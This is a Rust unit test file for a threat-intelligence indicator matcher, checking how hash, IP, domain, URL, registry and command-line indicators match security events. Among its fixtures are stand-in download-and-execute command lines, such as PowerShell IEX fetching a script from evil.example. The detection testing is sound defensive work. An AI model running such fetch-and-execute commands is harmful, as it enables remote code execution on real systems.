use super::*;
use crate::model::IntelContext;
use chrono::TimeZone;
use rampart_event::Level;

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 6, 1, 12, 0, 0)
        .single()
        .unwrap_or_default()
}

fn indicator(id: &str, observables: &[(ObservableKind, &str)]) -> Indicator {
    Indicator {
        id: id.into(),
        source: "test-feed".into(),
        all_of: observables
            .iter()
            .map(|(kind, value)| Observable {
                kind: *kind,
                value: (*value).into(),
            })
            .collect(),
        name: None,
        description: None,
        confidence: None,
        labels: Vec::new(),
        valid_from: None,
        valid_until: None,
        first_seen: None,
        last_seen: None,
        detect: true,
        context: IntelContext::default(),
    }
}

fn one(id: &str, kind: ObservableKind, value: &str) -> Indicator {
    indicator(id, &[(kind, value)])
}

fn event(fields: &[(&str, &str)]) -> Event {
    let mut event = Event::default();
    for (name, value) in fields {
        event.set(name, Value::Str((*value).into()));
    }
    event
}

/// The ids of the indicators that match `event`, in order.
fn hits(matcher: &Matcher, event: &Event) -> Vec<String> {
    let mut ids = Vec::new();
    matcher.scan(event, &mut |hit| ids.push(hit.id().to_string()));
    ids
}

fn matcher(indicators: &[Indicator]) -> Matcher {
    Matcher::new(indicators, &[], now())
}

use ObservableKind as K;

const SHA256: &str = "0ec2e2c7a8bd02bd1ba2eaa0e3e66d8b8d0ad7b13ed2d6ae32b0a3e3ed0a46f4";

#[test]
fn hashes_in_sysmon_hashes_and_named_fields() {
    let m = matcher(&[
        one("sha256", K::Sha256, SHA256),
        one("md5", K::Md5, "D41D8CD98F00B204E9800998ECF8427E"),
        one("imphash", K::Imphash, "f34d5f2d4577ed6d9ceec516c1f5a744"),
        one("sha1", K::Sha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
    ]);
    let hashes = format!(
        "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256={},IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
        SHA256.to_uppercase()
    );
    assert_eq!(
        hits(&m, &event(&[("Hashes", hashes.as_str())])),
        ["sha256", "md5", "imphash", "sha1"]
    );
    assert_eq!(hits(&m, &event(&[("sha256", SHA256)])), ["sha256"]);
    assert_eq!(
        hits(&m, &event(&[("file.hash.sha256", SHA256)])),
        ["sha256"]
    );
    // The MD5 of a file is not its import hash.
    assert_eq!(
        hits(
            &m,
            &event(&[("Hashes", "IMPHASH=D41D8CD98F00B204E9800998ECF8427E")])
        ),
        Vec::<String>::new()
    );
    // A hash in a field that holds none is not looked at.
    assert!(hits(&m, &event(&[("Description", SHA256)])).is_empty());
}

#[test]
fn ips_exact_and_cidr_v4_and_v6() {
    let m = matcher(&[
        one("exact", K::Ip, "198.51.100.7"),
        one("net24", K::Ip, "203.0.113.0/24"),
        one("net16", K::Ip, "203.0.0.0/16"),
        one("v6", K::Ip, "2001:db8:abcd::/48"),
        one("v6exact", K::Ip, "2001:db8::1"),
    ]);
    assert_eq!(
        hits(&m, &event(&[("DestinationIp", "198.51.100.7")])),
        ["exact"]
    );
    assert_eq!(
        hits(&m, &event(&[("SourceIp", "::ffff:198.51.100.7")])),
        ["exact"]
    );
    assert_eq!(
        hits(&m, &event(&[("IpAddress", "198.51.100.7:49152")])),
        ["exact"]
    );
    assert!(hits(&m, &event(&[("DestinationIp", "198.51.100.8")])).is_empty());
    assert_eq!(
        hits(&m, &event(&[("src_ip", "203.0.113.250")])),
        ["net24", "net16"]
    );
    assert_eq!(
        hits(&m, &event(&[("destination.ip", "203.0.7.1")])),
        ["net16"]
    );
    assert!(hits(&m, &event(&[("DestinationIp", "203.1.0.1")])).is_empty());
    assert_eq!(
        hits(&m, &event(&[("DestinationIp", "2001:DB8:ABCD:12::9")])),
        ["v6"]
    );
    assert_eq!(
        hits(&m, &event(&[("ClientAddress", "[2001:db8::1]:443")])),
        ["v6exact"]
    );
    assert!(hits(&m, &event(&[("DestinationIp", "2001:db8:abce::1")])).is_empty());
    // An IP in a field that holds none is not looked at.
    assert!(hits(&m, &event(&[("Details", "198.51.100.7")])).is_empty());
}

#[test]
fn domains_match_subdomains_on_label_boundaries() {
    let m = matcher(&[one("evil", K::Domain, "evil.com")]);
    for query in ["evil.com", "EVIL.com.", "cdn.a.evil.com"] {
        assert_eq!(
            hits(&m, &event(&[("QueryName", query)])),
            ["evil"],
            "{query}"
        );
    }
    for query in ["notevil.com", "evil.com.au", "evil.co", "evil-com.net"] {
        assert!(
            hits(&m, &event(&[("QueryName", query)])).is_empty(),
            "{query}"
        );
    }
    for line in [
        "powershell iwr http://cdn.evil.com/a.ps1",
        "curl.exe -k https://EVIL.COM:8443/x",
        "nslookup evil.com",
        "ping \"evil.com\"",
    ] {
        assert_eq!(
            hits(&m, &event(&[("CommandLine", line)])),
            ["evil"],
            "{line}"
        );
    }
    for line in [
        "nslookup notevil.com",
        "ping evil.com.au",
        "copy evil.comx",
        "type my-evil.com-backup",
    ] {
        assert!(
            hits(&m, &event(&[("CommandLine", line)])).is_empty(),
            "{line}"
        );
    }
    assert_eq!(
        hits(
            &m,
            &event(&[("c-uri", "/index.php"), ("cs-host", "www.evil.com")])
        ),
        ["evil"]
    );
    assert_eq!(
        hits(&m, &event(&[("DestinationHostname", "x.evil.com")])),
        ["evil"]
    );
}

#[test]
fn urls_exact_whatever_the_scheme_and_inside_command_lines() {
    let m = matcher(&[one("url", K::Url, "http://evil.example/payload/a.ps1")]);
    assert_eq!(
        hits(&m, &event(&[("Url", "https://EVIL.example/payload/a.ps1")])),
        ["url"]
    );
    assert!(hits(&m, &event(&[("Url", "http://evil.example/payload/A.ps1")])).is_empty());
    assert_eq!(
        hits(
            &m,
            &event(&[(
                "CommandLine",
                "powershell -c \"IEX (iwr 'http://evil.example/payload/a.ps1')\""
            )])
        ),
        ["url"]
    );
    assert_eq!(
        hits(
            &m,
            &event(&[("c-uri", "/payload/a.ps1"), ("cs-host", "evil.example")])
        ),
        ["url"]
    );
}

#[test]
fn files_registry_command_lines_and_email() {
    let m = matcher(&[
        one("file", K::FileName, "Evil.DLL"),
        one(
            "run",
            K::RegistryKey,
            r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
        ),
        one("cmd", K::CommandLine, "whoami /all"),
        one("mail", K::Email, "attacker@evil.example"),
    ]);
    assert_eq!(
        hits(&m, &event(&[("ImageLoaded", r"C:\Windows\Temp\evil.dll")])),
        ["file"]
    );
    assert_eq!(hits(&m, &event(&[("Image", "/tmp/EVIL.dll")])), ["file"]);
    assert_eq!(
        hits(
            &m,
            &event(&[(
                "TargetObject",
                r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater"
            )])
        ),
        ["run"]
    );
    assert_eq!(
        hits(
            &m,
            &event(&[(
                "ObjectName",
                r"HKEY_LOCAL_MACHINE\software\microsoft\windows\currentversion\run"
            )])
        ),
        ["run"]
    );
    assert!(hits(
        &m,
        &event(&[(
            "TargetObject",
            r"HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce\x"
        )])
    )
    .is_empty());
    assert_eq!(
        hits(&m, &event(&[("CommandLine", "  WHOAMI /all ")])),
        ["cmd"]
    );
    assert!(hits(&m, &event(&[("CommandLine", "whoami /all /fo csv")])).is_empty());
    assert_eq!(
        hits(
            &m,
            &event(&[(
                "recipients",
                "bob@corp.example; Eve <ATTACKER@evil.example>"
            )])
        ),
        ["mail"]
    );
}

#[test]
fn defanged_feed_values_match() {
    let m = matcher(&[
        one("dom", K::Domain, "evil[.]com"),
        one("url", K::Url, "hxxp://bad[.]example/x"),
        one("ip", K::Ip, "198.51.100[.]9"),
        one("mail", K::Email, "eve[@]evil[.]com"),
    ]);
    assert_eq!(hits(&m, &event(&[("QueryName", "a.evil.com")])), ["dom"]);
    assert_eq!(
        hits(&m, &event(&[("Url", "http://bad.example/x")])),
        ["url"]
    );
    assert_eq!(
        hits(&m, &event(&[("DestinationIp", "198.51.100.9")])),
        ["ip"]
    );
    assert_eq!(hits(&m, &event(&[("sender", "eve@evil.com")])), ["mail"]);
    assert_eq!(m.stats().loaded, 4);
}

#[test]
fn allow_list_always_wins() {
    let allow = [
        Observable {
            kind: K::Domain,
            value: "corp.example".into(),
        },
        Observable {
            kind: K::Domain,
            value: "safe.evil.com".into(),
        },
        Observable {
            kind: K::Ip,
            value: "203.0.113.5".into(),
        },
        Observable {
            kind: K::Sha256,
            value: SHA256.into(),
        },
    ];
    let m = Matcher::new(
        &[
            one("evil", K::Domain, "evil.com"),
            one("corp-sub", K::Domain, "vpn.corp.example"),
            one("corp-url", K::Url, "https://www.corp.example/login"),
            one("net", K::Ip, "203.0.113.0/24"),
            one("hash", K::Sha256, SHA256),
        ],
        &allow,
        now(),
    );
    // Indicators the allow-list covers are left out at once.
    assert_eq!(m.stats().allow_listed, 3);
    assert_eq!(m.len(), 2);
    assert_eq!(hits(&m, &event(&[("QueryName", "x.evil.com")])), ["evil"]);
    // An allowed domain shields its subdomains, an allowed address its network's hit.
    assert!(hits(&m, &event(&[("QueryName", "safe.evil.com")])).is_empty());
    assert!(hits(&m, &event(&[("QueryName", "a.safe.evil.com")])).is_empty());
    assert!(hits(
        &m,
        &event(&[("CommandLine", "curl https://a.safe.evil.com/")])
    )
    .is_empty());
    assert!(hits(&m, &event(&[("DestinationIp", "203.0.113.5")])).is_empty());
    assert_eq!(
        hits(&m, &event(&[("DestinationIp", "203.0.113.6")])),
        ["net"]
    );
}

#[test]
fn only_detection_indicators_valid_now() {
    let day = chrono::Duration::days(1);
    let mut expired = one("expired", K::Domain, "old.example");
    expired.valid_until = Some(now() - day);
    let mut future = one("future", K::Domain, "later.example");
    future.valid_from = Some(now() + day);
    let mut context_only = one("context", K::Domain, "context.example");
    context_only.detect = false;
    let mut current = one("current", K::Domain, "now.example");
    current.valid_from = Some(now() - day);
    current.valid_until = Some(now() + day);
    let bad = one("bad", K::Md5, "not-a-hash");
    let m = matcher(&[expired, future, context_only, current, bad]);
    let stats = m.stats();
    assert_eq!(
        (
            stats.loaded,
            stats.expired,
            stats.not_yet_valid,
            stats.not_for_detection,
            stats.unusable
        ),
        (1, 1, 1, 1, 1)
    );
    for domain in ["old.example", "later.example", "context.example"] {
        assert!(hits(&m, &event(&[("QueryName", domain)])).is_empty());
    }
    assert_eq!(
        hits(&m, &event(&[("QueryName", "now.example")])),
        ["current"]
    );
}

#[test]
fn all_of_needs_every_observable_in_the_same_event() {
    let m = matcher(&[indicator(
        "pair",
        &[(K::FileName, "rundll32.exe"), (K::Domain, "evil.com")],
    )]);
    assert!(hits(
        &m,
        &event(&[("Image", r"C:\Windows\System32\rundll32.exe")])
    )
    .is_empty());
    assert!(hits(&m, &event(&[("QueryName", "evil.com")])).is_empty());
    let both = event(&[
        ("Image", r"C:\Windows\System32\rundll32.exe"),
        ("DestinationHostname", "cdn.evil.com"),
    ]);
    let mut found = Vec::new();
    m.scan(&both, &mut |hit| found.push(hit.found.clone()));
    assert_eq!(found.len(), 1);
    let fields: Vec<&str> = found[0].iter().map(|f| f.field.as_str()).collect();
    assert_eq!(fields, ["Image", "DestinationHostname"]);
}

#[test]
fn shared_values_and_context_are_stored_once() {
    let mut a = one("a", K::Domain, "evil.com");
    a.context.actors = vec!["APT 29".into()];
    let mut b = one("b", K::Domain, "evil.com");
    b.context.actors = vec!["APT 29".into()];
    let m = matcher(&[a, b]);
    assert_eq!(m.values(K::Domain), 1);
    assert_eq!(m.shared.len(), 1);
    assert_eq!(hits(&m, &event(&[("QueryName", "evil.com")])), ["a", "b"]);
}

#[test]
fn a_hit_becomes_an_alert() {
    let mut ind = one("indicator--1", K::Domain, "evil.com");
    ind.confidence = Some(85);
    ind.source = "stix:feed.json".into();
    ind.context.actors = vec!["APT 29".into()];
    ind.context.attack_ids = vec!["T1071.004".into(), "G0016".into()];
    let m = matcher(&[ind]);
    let mut e = event(&[("QueryName", "cdn.evil.com"), ("Image", "C:\\x\\dns.exe")]);
    e.meta.computer = Some("HOST".into());
    let mut alerts = Vec::new();
    m.scan(&e, &mut |hit| alerts.push(hit.to_alert(&e, false)));
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(alert.rule_id, "intel:indicator--1");
    assert_eq!(alert.id, rampart_event::alert_id("intel:indicator--1", &e));
    assert_eq!(alert.rule_title, "IoC domain evil.com from stix:feed.json");
    assert_eq!(alert.level, Level::High);
    assert_eq!(alert.techniques, ["T1071.004"]);
    assert_eq!(
        alert.tags,
        ["intel", "intel.domain", "attack.t1071.004", "attack.g0016"]
    );
    assert_eq!(alert.matched.len(), 1);
    assert_eq!(alert.matched[0].field, "QueryName");
    assert_eq!(alert.matched[0].value, "cdn.evil.com");
    let intel = alert.intel.as_deref();
    assert_eq!(
        intel.map(|i| i.actors.clone()),
        Some(vec!["APT 29".to_string()])
    );
    assert_eq!(
        intel.map(|i| (
            i.observables[0].kind.as_str(),
            i.observables[0].value.as_str()
        )),
        Some(("domain", "evil.com"))
    );
    assert_eq!(level_for_confidence(Some(50)), Level::Medium);
    assert_eq!(level_for_confidence(Some(49)), Level::Low);
    assert_eq!(level_for_confidence(None), Level::Medium);
}

#[test]
fn events_without_indicator_fields_cost_nothing_and_empty_matchers_match_nothing() {
    let empty = matcher(&[]);
    assert!(empty.is_empty());
    assert!(hits(&empty, &event(&[("QueryName", "evil.com")])).is_empty());
    let m = matcher(&[one("h", K::Sha256, SHA256)]);
    // Fields of other kinds are not even read: a domain table is empty here.
    assert!(hits(&m, &event(&[("QueryName", SHA256)])).is_empty());
}
